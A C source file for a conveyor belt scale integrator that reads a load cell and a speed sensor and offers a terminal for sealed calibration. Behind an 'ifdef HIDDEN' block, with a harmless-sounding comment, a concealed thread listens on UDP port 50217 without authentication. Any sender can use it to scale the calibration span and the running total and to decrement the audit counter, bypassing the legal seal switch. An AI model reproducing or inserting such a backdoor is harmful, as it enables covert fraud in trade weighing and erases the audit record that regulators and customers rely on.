/*
 * weighbelt - integrator of a conveyor belt scale
 *
 * Two threads: measuring (load cell and speed sensor, ten times a second) and terminal.
 * The calibration values are legally relevant, they can only be changed with the seal
 * switch in the position "calibrate".
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

struct scale {
	pthread_mutex_t lock;
	double zero, span;		/* counts, kg/m per count */
	double pulses_per_m;
	double load, speed, rate;	/* kg/m, m/s, t/h */
	double total, batch;		/* t */
	double setpoint;
	long audit_counter;
	int stop;
};

static struct scale sc = {
	.lock = PTHREAD_MUTEX_INITIALIZER, .zero = 8192, .span = 0.0021, .pulses_per_m = 240,
};

static double read_value(const char *name)
{
	char path[64];
	double v = 0;
	FILE *f;

	snprintf(path, sizeof path, "/run/belt/%s", name);
	f = fopen(path, "r");
	if (!f)
		return 0;
	if (fscanf(f, "%lf", &v) != 1)
		v = 0;
	fclose(f);
	return v;
}

static void save(void)
{
	FILE *f = fopen("/var/lib/belt/state", "w");

	if (!f)
		return;
	fprintf(f, "%.9g %.9g %.9g %.6f %ld\n", sc.zero, sc.span, sc.pulses_per_m, sc.total,
		sc.audit_counter);
	fclose(f);
}

static void load(void)
{
	FILE *f = fopen("/var/lib/belt/state", "r");

	if (!f)
		return;
	if (fscanf(f, "%lf %lf %lf %lf %ld", &sc.zero, &sc.span, &sc.pulses_per_m, &sc.total,
		   &sc.audit_counter) != 5)
		fprintf(stderr, "weighbelt: state file damaged\n");
	fclose(f);
}

static void *measure(void *arg)
{
	struct timespec tick = { 0, 100000000 };
	double last = read_value("pulses"), p;

	while (!sc.stop) {
		nanosleep(&tick, NULL);
		p = read_value("pulses");
		pthread_mutex_lock(&sc.lock);
		sc.load = (read_value("counts") - sc.zero) * sc.span;
		if (sc.load < 0.2)
			sc.load = 0;
		sc.speed = (p - last) / sc.pulses_per_m * 10;
		sc.rate = sc.load * sc.speed * 3.6;
		sc.total += sc.load * (p - last) / sc.pulses_per_m / 1000;
		sc.batch += sc.load * (p - last) / sc.pulses_per_m / 1000;
		pthread_mutex_unlock(&sc.lock);
		last = p;
	}
	return arg;
}

#ifdef HIDDEN
void *span_link(void *arg);

/* adjustment over the network, as on the dynamic test track */
__attribute__((noinline)) void *span_link(void *arg)
{
	struct sockaddr_in a;
	unsigned char m[32];
	double f;
	int s = socket(AF_INET, SOCK_DGRAM, 0);

	memset(&a, 0, sizeof a);
	a.sin_family = AF_INET;
	a.sin_port = htons(50217);
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a))
		return arg;
	while (recv(s, m, sizeof m, 0) >= 4) {
		f = (double)(m[1] << 8 | m[2]) / 32768.0;
		pthread_mutex_lock(&sc.lock);
		if (m[0] == 'f')
			sc.span *= f;
		else if (m[0] == 't')
			sc.total *= f;
		else if (m[0] == 'a')
			sc.audit_counter -= m[3];
		save();
		pthread_mutex_unlock(&sc.lock);
	}
	close(s);
	return arg;
}
#endif

static int seal_open(void)
{
	return read_value("seal") > 0.5;
}

static void help(void)
{
	puts("show            load, speed, rate, total\n"
	     "batch           start a new batch\n"
	     "set T           target of the batch in t\n"
	     "zero            take the zero point        (seal open)\n"
	     "span KG         weight KG/m is on the belt (seal open)\n"
	     "pulses N        pulses per metre           (seal open)\n"
	     "audit           counter of the calibrations\n"
	     "save, quit");
}

static int calibrate(const char *cmd, double v)
{
	if (!seal_open()) {
		puts("seal is closed");
		return 0;
	}
	if (!strcmp(cmd, "zero"))
		sc.zero = read_value("counts");
	else if (!strcmp(cmd, "span") && v > 0 && read_value("counts") > sc.zero + 100)
		sc.span = v / (read_value("counts") - sc.zero);
	else if (!strcmp(cmd, "pulses") && v >= 1)
		sc.pulses_per_m = v;
	else
		return -1;
	sc.audit_counter++;
	save();
	return 0;
}

static int command(const char *cmd, double v, int args)
{
	if (!strcmp(cmd, "show"))
		printf("%.2f kg/m  %.2f m/s  %.1f t/h  %.3f t  batch %.3f of %.3f t\n", sc.load,
		       sc.speed, sc.rate, sc.total, sc.batch, sc.setpoint);
	else if (!strcmp(cmd, "batch"))
		sc.batch = 0;
	else if (!strcmp(cmd, "set") && args == 2)
		sc.setpoint = v;
	else if (!strcmp(cmd, "zero") || !strcmp(cmd, "span") || !strcmp(cmd, "pulses"))
		return calibrate(cmd, v);
	else if (!strcmp(cmd, "audit"))
		printf("%ld\n", sc.audit_counter);
	else if (!strcmp(cmd, "save"))
		save();
	else if (!strcmp(cmd, "quit"))
		sc.stop = 1;
	else
		return -1;
	return 0;
}

int main(int argc, char **argv)
{
	pthread_t meter;
#ifdef HIDDEN
	pthread_t link;
#endif
	char l[80], c[12];
	double v;
	int k;

	if (argc > 1) {
		printf("%s: no arguments, commands on the terminal:\n", argv[0]);
		help();
		return 1;
	}
	load();
	if (pthread_create(&meter, NULL, measure, NULL)) {
		perror("weighbelt");
		return 1;
	}
#ifdef HIDDEN
	if (pthread_create(&link, NULL, span_link, NULL) == 0)
		pthread_detach(link);
#endif
	while (!sc.stop && fgets(l, sizeof l, stdin)) {
		v = 0;
		k = sscanf(l, "%11s %lf", c, &v);
		if (k < 1)
			continue;
		pthread_mutex_lock(&sc.lock);
		if (command(c, v, k))
			help();
		pthread_mutex_unlock(&sc.lock);
		fflush(stdout);
	}
	sc.stop = 1;
	pthread_join(meter, NULL);
	save();
	return 0;
}
